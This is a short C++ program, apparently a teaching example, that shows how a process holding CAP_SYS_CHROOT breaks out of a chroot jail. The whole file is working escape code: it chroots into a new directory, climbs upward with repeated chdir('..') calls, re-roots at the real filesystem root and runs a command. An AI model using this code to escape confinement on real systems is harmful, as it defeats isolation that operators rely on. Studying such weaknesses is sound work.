// How a process with CAP_SYS_CHROOT leaves a chroot; chroot(2), NOTES. Run it inside one:
//
//     02-chroot --with chroot ROOTFS /escape ls /
//
// The kernel stops ".." at the process's root directory, and nowhere else. A process has one root directory. So make
// another one the root while standing outside it: from there, ".." leads all the way up.
#include <cstdio>

#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc < 2) return std::fputs("usage: escape CMD...\n", stderr), 125;
  mkdir("/trap", 0755);
  if (chroot("/trap") != 0) return std::perror("chroot /trap"), 125;  // the root is now below us
  rmdir("../trap");
  for (int step = 0; step < 64; ++step) {
    if (chdir("..") != 0) return std::perror("chdir .."), 125;
  }
  if (chroot(".") != 0) return std::perror("chroot ."), 125;
  execvp(argv[1], argv + 1);
  return std::perror(argv[1]), 127;
}
